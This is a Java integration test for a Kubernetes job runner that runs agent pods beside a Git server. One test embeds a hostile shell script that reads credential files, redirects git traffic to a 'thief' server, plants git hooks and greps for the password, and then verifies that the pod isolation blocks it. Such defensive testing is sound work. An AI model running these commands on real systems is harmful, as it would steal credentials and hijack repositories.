package dev.phaserollout.job;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import dev.phaserollout.agent.GitServer;
import dev.phaserollout.agent.Project;
import dev.phaserollout.api.CommitPoint;
import dev.phaserollout.api.Deliverable;
import dev.phaserollout.api.GitAuthor;
import dev.phaserollout.api.GitWorkspace;
import dev.phaserollout.api.SecretRef;
import dev.phaserollout.engine.Attempt;
import dev.phaserollout.engine.AttemptOutcome;
import dev.phaserollout.engine.JobErrands;
import dev.phaserollout.engine.JobRequest;
import dev.phaserollout.engine.JobSighting;
import dev.phaserollout.engine.Role;
import dev.phaserollout.errand.Errand;
import dev.phaserollout.errand.ErrandResult;
import dev.phaserollout.errand.ErrandResult.Outcome;
import dev.phaserollout.errand.RunId;
import dev.phaserollout.kubelet.PodCluster;
import dev.phaserollout.kubelet.PodClusterExtension;
import io.fabric8.kubernetes.api.model.OwnerReference;
import io.fabric8.kubernetes.api.model.OwnerReferenceBuilder;
import io.fabric8.kubernetes.api.model.Pod;
import io.fabric8.kubernetes.api.model.SecretBuilder;
import io.fabric8.kubernetes.api.model.batch.v1.Job;
import java.io.IOException;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.DisplayNameGeneration;
import org.junit.jupiter.api.DisplayNameGenerator.ReplaceUnderscores;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.api.io.TempDir;

/** Pods with the agent in them, as they really run beside a Git server: from request to outcome. */
@ExtendWith(PodClusterExtension.class)
@DisplayNameGeneration(ReplaceUnderscores.class)
class AgentPodIT {

  private static final Duration SOON = Duration.ofSeconds(90);
  private static final RunId RUN = new RunId("shop", "checkout", Requests.UID, 3);

  @TempDir Path folder;

  private final PodCluster cluster;
  private final JobManifest manifests;
  private Project project;
  private GitServer server;
  private GitServer thief;
  private GitWorkspace workspace;
  private String namespace;
  private String base;

  AgentPodIT(PodCluster cluster) {
    this.cluster = cluster;
    this.manifests =
        new JobManifest(
            PodSecurity.DEFAULT, new AgentImage(cluster.ownImage(), Optional.empty(), Map.of()));
  }

  @BeforeEach
  void start() throws IOException {
    project = Project.in(folder);
    server = GitServer.of(folder);
    thief = GitServer.of(folder);
    base = project.head();
    namespace = cluster.newNamespace("agent");
    workspace =
        new GitWorkspace(
            server.url("shop.git"),
            "main",
            null,
            new SecretRef("git-credentials"),
            new GitAuthor("Release Bot", "bot@example.com"),
            null);
    cluster
        .client()
        .resource(
            new SecretBuilder()
                .withNewMetadata()
                .withName("git-credentials")
                .withNamespace(namespace)
                .endMetadata()
                .addToStringData("username", GitServer.NAME)
                .addToStringData("password", GitServer.PASSWORD)
                .build())
        .create();
  }

  @AfterEach
  void stop() {
    assertThat(thief.authorizations()).as("credentials at another server").isEmpty();
    server.close();
    thief.close();
  }

  @Test
  void what_a_step_leaves_is_committed_and_its_outputs_are_read() {
    AttemptOutcome.Succeeded end =
        succeeded(
            run(
                "step",
                "cat README.md; git status --short; mkdir -p docs; echo a > docs/a.md; echo b > other.txt;"
                    + " printf '{\"n\":\"1\"}' > $PHASEROLLOUT_OUTPUTS",
                around(false)));
    assertThat(end.outputs()).isEqualTo("{\"n\":\"1\"}");
    assertThat(end.errand().orElseThrow().outcome()).isEqualTo(Outcome.Advanced);
    assertThat(end.errand().orElseThrow().commit()).contains(project.head());
    assertThat(project.file("docs/a.md")).isEqualTo("a");
    assertThat(project.server().run("log", "-1", "--name-only", "--format=", "main"))
        .isEqualTo("docs/a.md");
    assertThat(log("step", "step")).isEqualTo("shop\n");
  }

  @Test
  void a_commit_with_gates_waits_until_it_is_advanced_in_a_job_of_its_own() {
    AttemptOutcome.Succeeded proposed = succeeded(run("step", "echo a > docs/a.md", around(true)));
    ErrandResult candidate = proposed.errand().orElseThrow();
    assertThat(candidate.outcome()).isEqualTo(Outcome.Proposed);
    assertThat(project.head()).isEqualTo(base);
    AttemptOutcome.Succeeded advanced =
        succeeded(
            run(
                "advance",
                "",
                new JobErrands.Alone(
                    new Errand.Advance(
                        workspace,
                        RUN,
                        "staging",
                        "migrate",
                        candidate.commit().orElseThrow(),
                        true))));
    assertThat(advanced.errand().orElseThrow().outcome()).isEqualTo(Outcome.Advanced);
    assertThat(advanced.outputs()).isEmpty();
    assertThat(project.head()).isEqualTo(candidate.commit().orElseThrow());
  }

  @Test
  void a_step_that_leaves_less_than_it_must_fails_with_all_that_is_missing() {
    assertThat(run("step", "echo a > docs/a.md", around(false, "docs/*.txt", "CHANGES.md")))
        .isInstanceOfSatisfying(
            AttemptOutcome.ErrandFailed.class,
            failed -> {
              assertThat(failed.failure().reason()).isEqualTo("DeliverablesMissing");
              assertThat(failed.failure().message()).contains("docs/*.txt", "CHANGES.md");
            });
    assertThat(project.head()).isEqualTo(base);
  }

  @Test
  void a_command_that_fails_is_the_reason_and_nothing_is_committed() {
    assertThat(run("step", "echo a > docs/a.md; exit 3", around(false)))
        .isInstanceOfSatisfying(
            AttemptOutcome.Failed.class, failed -> assertThat(failed.exitCode()).isEqualTo(3));
    assertThat(project.head()).isEqualTo(base);
  }

  @Test
  void a_checkout_that_fails_keeps_the_command_from_running() {
    JobErrands nowhere =
        new JobErrands.Around(
            new Errand.Checkout(workspace, "c0ffee".repeat(6) + "c0ff"), Optional.empty());
    assertThat(run("step", "echo ran", nowhere))
        .isInstanceOfSatisfying(
            AttemptOutcome.ErrandFailed.class,
            failed -> assertThat(failed.failure().reason()).isEqualTo("CheckoutFailed"));
    assertThat(project.subjects()).containsExactly("Begin");
  }

  @Test
  void a_hostile_step_finds_no_credentials_and_sends_them_nowhere() {
    String script =
        "cat /etc/phaserollout/credentials/* /etc/phaserollout/signing/*;"
            + " ls /var/lib/phaserollout; env;"
            + " git config url."
            + thief.url("")
            + ".insteadOf "
            + server.url("")
            + ";"
            + " git config http.proxy "
            + thief.url("")
            + ";"
            + " for h in pre-commit pre-push post-commit; do"
            + "   printf '#!/bin/sh\\ntouch "
            + folder
            + "/trace\\n' > .git/hooks/$h;"
            + "   chmod +x .git/hooks/$h; done;"
            + " printf '[url \""
            + thief.url("")
            + "\"]\\n insteadOf = "
            + server.url("")
            + "\\n' > $HOME/.gitconfig;"
            + " grep -r '"
            + GitServer.PASSWORD
            + "' . $HOME;"
            + " echo a > docs/a.md";
    AttemptOutcome.Succeeded end = succeeded(run("step", script, around(false)));
    assertThat(end.errand().orElseThrow().outcome()).isEqualTo(Outcome.Advanced);
    assertThat(project.file("docs/a.md")).isEqualTo("a");
    assertThat(folder.resolve("trace")).doesNotExist();
    assertThat(log("step", "step"))
        .contains("No such file or directory", "PHASEROLLOUT_OUTPUTS=")
        .doesNotContain(GitServer.PASSWORD, GitServer.NAME);
    assertThat(server.authorizations()).isNotEmpty();
  }

  private JobErrands around(boolean gated, String... deliverables) {
    return new JobErrands.Around(
        new Errand.Checkout(workspace, base),
        Optional.of(
            new Errand.Finish(
                workspace,
                RUN,
                "staging",
                "migrate",
                base,
                base,
                List.of(deliverables).stream()
                    .map(path -> new Deliverable(path, null, null, null))
                    .toList(),
                new CommitPoint(List.of("docs"), "feat: migrate"),
                gated)));
  }

  private static AttemptOutcome.Succeeded succeeded(AttemptOutcome outcome) {
    assertThat(outcome).isInstanceOf(AttemptOutcome.Succeeded.class);
    return (AttemptOutcome.Succeeded) outcome;
  }

  private AttemptOutcome run(String name, String script, JobErrands errands) {
    boolean alone = errands instanceof JobErrands.Alone;
    String run =
        "{image: '" + PodCluster.IMAGE + "', command: [sh, -c, \"" + escaped(script) + "\"]}";
    JobRequest plain = Requests.of(alone ? Requests.EMPTY : run);
    Attempt attempt =
        new Attempt(
            Requests.UID,
            3,
            "staging",
            "migrate",
            alone ? Role.GIT : Role.STEP,
            Requests.DIGEST,
            1);
    JobRequest request =
        new JobRequest(
            name,
            attempt,
            "checkout",
            namespace,
            plain.container(),
            List.of(),
            Map.of(),
            Map.of(),
            Duration.ofMinutes(1),
            Duration.ofMinutes(1),
            Optional.of(errands));
    cluster.client().resource(manifests.job(request, owner())).create();
    await().atMost(SOON).until(() -> sighting(name) instanceof JobSighting.Ended);
    return ((JobSighting.Ended) sighting(name)).outcome();
  }

  private static String escaped(String script) {
    return script.replace("\\", "\\\\").replace("\"", "\\\"");
  }

  private JobSighting sighting(String name) {
    Job job = cluster.client().batch().v1().jobs().inNamespace(namespace).withName(name).get();
    return JobReader.read(job, pods(name), Optional.empty(), () -> pods(name));
  }

  private List<Pod> pods(String job) {
    return cluster
        .client()
        .pods()
        .inNamespace(namespace)
        .withLabel("batch.kubernetes.io/job-name", job)
        .list()
        .getItems();
  }

  private String log(String job, String container) {
    return cluster.log(pods(job).get(0), container);
  }

  /** Somebody who exists, so that nothing is collected. */
  private OwnerReference owner() {
    var account =
        cluster.client().serviceAccounts().inNamespace(namespace).withName("default").get();
    return new OwnerReferenceBuilder()
        .withApiVersion("v1")
        .withKind("ServiceAccount")
        .withName("default")
        .withUid(account.getMetadata().getUid())
        .withController(true)
        .build();
  }
}
